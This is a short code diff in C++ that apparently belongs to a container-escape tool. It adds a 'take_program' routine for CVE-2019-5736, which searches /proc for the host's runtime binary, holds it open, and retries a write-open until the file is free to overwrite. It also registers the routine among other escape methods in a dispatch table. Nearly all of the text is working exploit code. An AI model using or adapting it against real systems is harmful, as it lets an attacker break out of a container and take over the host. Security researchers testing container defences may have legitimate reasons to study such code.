@@ -203,6 +203,34 @@ bool read_masked(const std::string& /*unused*/) {
   return false;
 }
 
+/// CVE-2019-5736: somebody executes a script inside whose interpreter is /proc/self/exe, which is
+/// then the host's own program, and whoever holds that open writes to it once it has ended.
+bool take_program(const std::string& inode) {
+  std::error_code error;
+  for (int attempts = 0; attempts < 400000; ++attempts) {
+    for (fs::directory_iterator at("/proc", error), end; at != end; at.increment(error)) {
+      const std::string link = at->path() / "exe";
+      const int file = open(link.c_str(), O_RDONLY | O_CLOEXEC);
+      struct stat status = {};
+      if (file < 0 || fstat(file, &status) < 0 || std::to_string(status.st_ino) != inode) {
+        close(file);
+        continue;
+      }
+      const std::string held = "/proc/self/fd/" + std::to_string(file);
+      for (int i = 0; i < 2000; ++i) {
+        if (opens(held, O_WRONLY)) {
+          return true;
+        }
+        if (errno != ETXTBSY) {
+          return false;
+        }
+        usleep(1000);
+      }
+    }
+  }
+  return false;
+}
+
 /// Whether the kernel would do it for somebody who asks properly.
 bool is_open(long result) { return result >= 0 || (errno != EPERM && errno != ENOSYS); }
 
@@ -238,6 +266,7 @@ int escape(const std::string& way, const std::string& argument) {
       {"processes", find_through_processes},
       {"namespaces", find_through_namespaces},
       {"process", reach_process},
+      {"program", take_program},
       {"masks", read_masked},
       {"kernel", change_kernel},
       {"keys", use_keys},
